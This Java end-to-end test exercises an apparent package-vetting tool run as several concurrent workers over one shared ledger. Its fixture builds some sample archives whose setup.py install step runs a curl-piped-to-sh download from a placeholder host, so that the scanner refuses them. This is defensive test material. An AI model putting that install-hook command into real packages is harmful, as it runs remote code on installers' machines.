package dev.airlock.bootstrap;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static java.util.concurrent.TimeUnit.SECONDS;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import com.github.tomakehurst.wiremock.stubbing.ServeEvent;
import dev.airlock.adapter.aws.testing.FakeDynamoDb;
import dev.airlock.bootstrap.AirlockProcess.Run;
import dev.airlock.domain.Sha256;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * One request file spread over several real {@code airlock run --worker I/N} processes started at
 * once, all sharing one stateful DynamoDB table (the real SDK against {@link FakeDynamoDb}, which
 * judges the ledger's condition expressions as DynamoDB does), then {@code airlock run --assemble N}:
 * each archive is fetched, scanned and published once, and the assembled verdict is the whole run's.
 */
class WorkersEndToEndTest {
  private static final String TABLE = "airlock-decisions";
  private static final String RUN_ID = "pipeline-execution-0001";
  private static final int ROWS = 30;
  /** Every this many rows an archive whose install step downloads and runs a script: refused. */
  private static final int REFUSED_EVERY = 10;
  private static final ObjectMapper JSON = new ObjectMapper();
  /** Several JVMs share the machine: a generous guard against a hung process, not a measurement. */
  private static final long GUARD_SECONDS = 300;

  private final FakeDynamoDb table = new FakeDynamoDb("decisionKey", "verdict-index", "verdict", "decisionKey");

  @RegisterExtension
  final WireMockExtension dynamoDb = WireMockExtension.newInstance()
      .options(wireMockConfig().dynamicPort().extensions(table)).build();

  @RegisterExtension
  final WireMockExtension archives = WireMockExtension.newInstance()
      .options(wireMockConfig().dynamicPort()).build();

  @TempDir
  Path work;

  private Path requestFile;
  private Path dataDir;
  private final Map<String, byte[]> served = new LinkedHashMap<>();

  @BeforeEach
  void requestFileOfManyArchives() throws IOException {
    dynamoDb.stubFor(post(urlEqualTo("/")).willReturn(aResponse()));
    StringBuilder rows = new StringBuilder("# one large request file, shared by every worker\n");
    for (int i = 1; i <= ROWS; i++) {
      String name = "pkg-" + i;
      String path = "/packages/" + name + "-1.0.0.tar.gz";
      byte[] archive = sdist(name, i % REFUSED_EVERY == 0);
      served.put(path, archive);
      archives.stubFor(get(urlEqualTo(path)).willReturn(aResponse().withBody(archive)));
      // Half the rows pinned (claimed before download), half not (claimed once the content is hashed).
      rows.append(name).append(",").append(archives.baseUrl()).append(path)
          .append(i % 2 == 0 ? "," + Sha256.hashOf(archive).hex() : "").append("\n");
    }
    // One row whose archive is missing: an ERROR that the assembled run must carry.
    rows.append("missing-pkg,").append(archives.baseUrl()).append("/packages/missing-pkg-1.0.0.tar.gz\n");
    archives.stubFor(any(anyUrl()).atPriority(10).willReturn(aResponse().withStatus(404)));
    requestFile = Files.writeString(work.resolve("requests.csv"), rows.toString());
    dataDir = work.resolve("data");
  }

  @AfterEach
  void emptyTable() {
    table.clear();
  }

  @Test
  void shouldFetchScanAndPublishEachArchiveOnceAndAssembleTheWholeRunWhenThreeWorkersShareOneFile()
      throws Exception {
    // When: three workers start together, then the assembly runs
    List<Run> workers = workers(List.of("1/3", "2/3", "3/3"));
    Run assembled = airlock(work.resolve("assembly"), "--assemble", "3");

    // Then: every worker finished its share (the missing archive's ERROR is the assembly's to report)
    assertThat(workers).extracting(Run::code).containsExactly(0, 0, 0);
    Map<String, List<String>> decidedBy = decidedInWorkers(workers);
    assertThat(decidedBy).hasSize(ROWS).allSatisfy((name, by) -> assertThat(by).as(name).hasSize(1));
    assertThat(workers).allSatisfy(w -> assertThat(JSON.readTree(w.out()).path("requests")).isNotEmpty());
    // ... each archive downloaded once, each decision written once, each approval published once
    for (String path : served.keySet()) {
      assertThat(archives.findAll(com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor(urlEqualTo(path))))
          .as(path).hasSize(1);
    }
    assertThat(decisionsWritten()).hasSize(ROWS).allSatisfy((key, writes) -> assertThat(writes).as(key).isEqualTo(1));
    assertThat(publishedArchives()).hasSize(ROWS - ROWS / REFUSED_EVERY);
    // ... and the assembly is the run as one process would report it
    assertThat(assembled.code()).as(assembled.err()).isEqualTo(1);
    JsonNode doc = JSON.readTree(assembled.out());
    assertThat(doc.path("summary").path("approved").asInt()).isEqualTo(ROWS - ROWS / REFUSED_EVERY);
    assertThat(doc.path("summary").path("refused").asInt()).isEqualTo(ROWS / REFUSED_EVERY);
    assertThat(doc.path("summary").path("error").asInt()).isEqualTo(1);
    JsonNode missing = request(doc, "missing-pkg");
    assertThat(missing.path("status").asText()).isEqualTo("ERROR");
    assertThat(missing.toString()).contains("404");
    assertThat(request(doc, "pkg-" + REFUSED_EVERY).path("status").asText()).isEqualTo("REFUSED");
    assertThat(dataDir.resolve("reports/airlock-junit.xml")).exists();
  }

  @Test
  void shouldStillDecideEachArchiveOnceWhenAWorkerIsStartedTwiceAtTheSameTime() throws Exception {
    // When: worker 2 of 2 is started twice (a retry overlapping the first attempt), all at once
    List<Run> workers = workers(List.of("1/2", "2/2", "2/2"));
    Run assembled = airlock(work.resolve("assembly"), "--assemble", "2");

    // Then: the claims kept the two copies off each other's archives
    assertThat(decidedInWorkers(workers)).hasSize(ROWS).allSatisfy((name, by) -> assertThat(by).as(name).hasSize(1));
    assertThat(decisionsWritten()).hasSize(ROWS).allSatisfy((key, writes) -> assertThat(writes).as(key).isEqualTo(1));
    for (Map.Entry<String, byte[]> archive : served.entrySet()) {
      int fetches = archives.findAll(com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor(
          urlEqualTo(archive.getKey()))).size();
      int row = Integer.parseInt(archive.getKey().replaceAll("\\D+(\\d+)-1\\.0\\.0.*", "$1"));
      // a pinned row is claimed before it is downloaded: once; an unpinned one needs its hash to be claimed
      assertThat(fetches).as(archive.getKey()).isBetween(1, row % 2 == 0 ? 1 : 2);
    }
    JsonNode doc = JSON.readTree(assembled.out());
    assertThat(doc.path("summary").path("approved").asInt() + doc.path("summary").path("refused").asInt())
        .isEqualTo(ROWS);
    assertThat(doc.path("summary").path("error").asInt()).isEqualTo(1);
  }

  @Test
  void shouldReportEveryRowOfAWorkerThatNeverRanAsAnErrorWhenAssembled() throws Exception {
    // Given: only worker 1 of 2 ran
    workers(List.of("1/2"));

    // When
    Run assembled = airlock(work.resolve("assembly"), "--assemble", "2");

    // Then: fail closed, and the requester-facing reason names the worker
    assertThat(assembled.code()).isEqualTo(1);
    JsonNode doc = JSON.readTree(assembled.out());
    List<JsonNode> errors = new ArrayList<>();
    doc.path("requests").forEach(r -> {
      if (r.path("status").asText().equals("ERROR")) {
        errors.add(r);
      }
    });
    assertThat(errors).hasSizeGreaterThan(1)
        .anySatisfy(e -> assertThat(e.toString()).contains("worker 2/2 of run " + RUN_ID + " left no outcome"));
  }

  @Test
  void shouldExitTwoNamingTheRunIdWhenAWorkerIsStartedWithoutOne() throws Exception {
    // When
    Map<String, String> env = environment();
    env.remove("AIRLOCK_RUN_ID");
    Path folder = Files.createDirectories(work.resolve("lonely"));
    Run run = AirlockProcess.run(folder, env, List.of("run", requestFile.toString(), "--worker", "1/2"));

    // Then
    assertThat(run.code()).isEqualTo(2);
    assertThat(run.err()).contains("--worker").contains("needs AIRLOCK_RUN_ID");
    assertThat(archives.getAllServeEvents()).isEmpty();
  }

  /** Starts one {@code airlock run --worker} per entry, all at once, and waits for them. */
  private List<Run> workers(List<String> shards) throws Exception {
    List<Run> runs = new ArrayList<>();
    try (ExecutorService pool = Executors.newFixedThreadPool(shards.size())) {
      List<Future<Run>> started = new ArrayList<>();
      for (int i = 0; i < shards.size(); i++) {
        Path folder = work.resolve("worker-" + i);
        String shard = shards.get(i);
        started.add(pool.submit(() -> airlock(folder, "--worker", shard)));
      }
      for (Future<Run> run : started) {
        runs.add(run.get(GUARD_SECONDS + 10, SECONDS));
      }
    }
    return runs;
  }

  private Run airlock(Path folder, String... mode) throws Exception {
    Files.createDirectories(folder);
    List<String> args = new ArrayList<>(List.of("run", requestFile.toString(), "--format", "json", "--ledger",
        "dynamodb", "--data-dir", dataDir.toString(), "--allow-host", "localhost:" + archives.getPort()));
    args.addAll(List.of(mode));
    return AirlockProcess.run(folder, environment(), args, GUARD_SECONDS);
  }

  private Map<String, String> environment() {
    Map<String, String> env = AirlockProcess.awsStub(dynamoDb.baseUrl(), "airlock-test-secret");
    env.put("AIRLOCK_DYNAMODB_TABLE", TABLE);
    env.put("AIRLOCK_RUN_ID", RUN_ID);
    return env;
  }

  /** For each package, the workers whose own output says they decided it (approved or refused). */
  private static Map<String, List<String>> decidedInWorkers(List<Run> workers) throws IOException {
    Map<String, List<String>> decided = new LinkedHashMap<>();
    for (int w = 0; w < workers.size(); w++) {
      for (JsonNode request : JSON.readTree(workers.get(w).out()).path("requests")) {
        String status = request.path("status").asText();
        if (status.equals("APPROVED") || status.equals("REFUSED")) {
          decided.computeIfAbsent(request.path("package").asText(), n -> new ArrayList<>()).add("worker " + w);
        }
      }
    }
    return decided;
  }

  /** How many times the table accepted a decision for each key (an UpdateItem that succeeded). */
  private Map<String, Long> decisionsWritten() {
    return dynamoDb.getAllServeEvents().stream()
        .filter(e -> "DynamoDB_20120810.UpdateItem".equals(e.getRequest().getHeader("X-Amz-Target")))
        .filter(e -> e.getResponse().getStatus() == 200)
        .map(WorkersEndToEndTest::itemKey)
        .collect(Collectors.groupingBy(Function.identity(), Collectors.counting()));
  }

  private static String itemKey(ServeEvent event) {
    try {
      return JSON.readTree(event.getRequest().getBodyAsString()).path("Key").path("decisionKey").path("S").asText();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private List<Path> publishedArchives() throws IOException {
    try (Stream<Path> files = Files.walk(dataDir.resolve("repository"))) {
      return files.filter(f -> f.getFileName().toString().endsWith(".tar.gz")).toList();
    }
  }

  private static JsonNode request(JsonNode doc, String name) {
    for (JsonNode request : doc.path("requests")) {
      if (request.path("package").asText().equals(name)) {
        return request;
      }
    }
    throw new AssertionError("no request " + name + " in " + doc);
  }

  /** A small source distribution; a refused one's install step downloads and runs a script. */
  static byte[] sdist(String name, boolean refused) throws IOException {
    String setup = refused
        ? "import os\nfrom setuptools import setup\nos.system(\"curl -fsSL https://" + name
            + ".invalid/x.sh | sh\")\nsetup(name=\"" + name + "\", version=\"1.0.0\")\n"
        : "from setuptools import setup\nsetup(name=\"" + name + "\", version=\"1.0.0\")\n";
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(bytes))) {
      add(tar, name + "-1.0.0/setup.py", setup);
      add(tar, name + "-1.0.0/" + name.replace('-', '_') + "/__init__.py", "\"\"\"" + name + ".\"\"\"\n");
    }
    return bytes.toByteArray();
  }

  private static void add(TarArchiveOutputStream tar, String path, String content) throws IOException {
    byte[] data = content.getBytes(StandardCharsets.UTF_8);
    TarArchiveEntry entry = new TarArchiveEntry(path);
    entry.setSize(data.length);
    tar.putArchiveEntry(entry);
    tar.write(data);
    tar.closeArchiveEntry();
  }
}
